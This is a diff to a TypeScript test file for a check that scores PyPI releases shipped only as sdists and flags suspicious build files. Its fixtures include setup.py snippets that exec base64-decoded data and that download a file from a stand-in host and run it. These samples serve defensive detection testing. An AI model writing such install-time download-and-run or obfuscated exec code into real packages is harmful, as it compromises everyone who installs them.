@@ -1,7 +1,8 @@
 import check, { SDIST_ONLY_SCORE } from '../../src/checks/wheels-published.js';
 import type { PypiFile } from '../../src/evidence/schema.js';
 import { pypiEvidence } from '../support/pypi-evidence.js';
-import { checkTable } from './check-table.js';
+import { checkTable, outcomeOf } from './check-table.js';
+import { describe, expect, it } from 'vitest';
 
 const file = (filename: string, packagetype: string, yanked = false): PypiFile => ({
   filename,
@@ -61,4 +62,46 @@ checkTable(check, [
     data: { wheels: 0, sdists: 0 },
   },
   { name: 'no files at all', evidence: withFiles([]), score: null, messageId: 'no-distributions' },
+  {
+    name: 'sdist only, its setup.py overrides install',
+    evidence: pypiEvidence({ pypi: { files: [sdist], sdistOnly: true, sdistBuild: { sdist: sdist.filename, unavailable: null, files: [{ path: 'setup.py', text: "setup(name='x', cmdclass={'install': PostInstall})\n", truncated: false }] } } }),
+    score: SDIST_ONLY_SCORE,
+    messageId: 'sdist-commands',
+    data: { commands: ['install'] },
+  },
+  {
+    name: 'sdist only, its setup.py executes decoded data',
+    evidence: pypiEvidence({ pypi: { files: [sdist], sdistOnly: true, sdistBuild: { sdist: sdist.filename, unavailable: null, files: [{ path: 'setup.py', text: "import base64\nexec(base64.b64decode('eA=='))\n", truncated: false }] } } }),
+    score: 10,
+    messageId: 'sdist-suspicious',
+    data: { flags: ['exec-decoded'] },
+  },
 ]);
+
+describe('wheels-published: an sdist-only release\'s build files', () => {
+  const build = (files: { path: string; text: string }[], unavailable: string | null = null) =>
+    pypiEvidence({ pypi: { files: [sdist], sdistOnly: true, sdistBuild: { sdist: sdist.filename, unavailable, files: files.map((f) => ({ ...f, truncated: false })) } } });
+  const PLAIN = "from setuptools import setup\nsetup(name='example', url='https://example.org')\n";
+  const PYPROJECT = '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n';
+
+  it.each<[string, ReturnType<typeof build>, number, string, Record<string, unknown>]>([
+    ['a plain setuptools build: sdist-only as before', build([{ path: 'setup.py', text: PLAIN }]), SDIST_ONLY_SCORE, 'sdist-only', { buildFiles: ['setup.py'], commands: [], buildBackend: null }],
+    ['hatchling named by pyproject.toml', build([{ path: 'pyproject.toml', text: PYPROJECT }]), SDIST_ONLY_SCORE, 'sdist-only', { buildBackend: 'hatchling.build' }],
+    ['an in-tree backend', build([{ path: 'pyproject.toml', text: `${PYPROJECT}backend-path = ["_build"]\n` }]), SDIST_ONLY_SCORE, 'sdist-only', { buildBackend: 'hatchling.build (in-tree)' }],
+    ['a custom install command', build([{ path: 'setup.py', text: "setup(name='x', cmdclass={'install': PostInstall})\n" }]), SDIST_ONLY_SCORE, 'sdist-commands', { commands: ['install'] }],
+    [
+      'a setup.py that downloads and runs',
+      build([{ path: 'setup.py', text: "import urllib.request, subprocess\nurllib.request.urlretrieve('http://x.example/a', 'a')\nsubprocess.call(['./a'])\nsetup(name='x')\n" }]),
+      10,
+      'sdist-suspicious',
+      { flags: ['download-and-run'] },
+    ],
+    ['the sdist could not be read: sdist-only stands, the build unknown', build([], 'the sdist could not be read: HTTP 500'), SDIST_ONLY_SCORE, 'sdist-only', { buildFiles: null, buildUnread: 'the sdist could not be read: HTTP 500' }],
+    ['evidence saved before nerq read sdists', withFiles([sdist], true), SDIST_ONLY_SCORE, 'sdist-only', { buildFiles: null, buildUnread: null }],
+  ])('%s', (_name, evidence, score, messageId, data) => {
+    const outcome = outcomeOf(check, evidence);
+    expect(outcome).toMatchObject({ score, messageId, data });
+    if (messageId === 'sdist-suspicious') expect(outcome.holdVerdict).toMatch(/download-and-run/);
+    else expect(outcome.holdVerdict).toBeUndefined();
+  });
+});
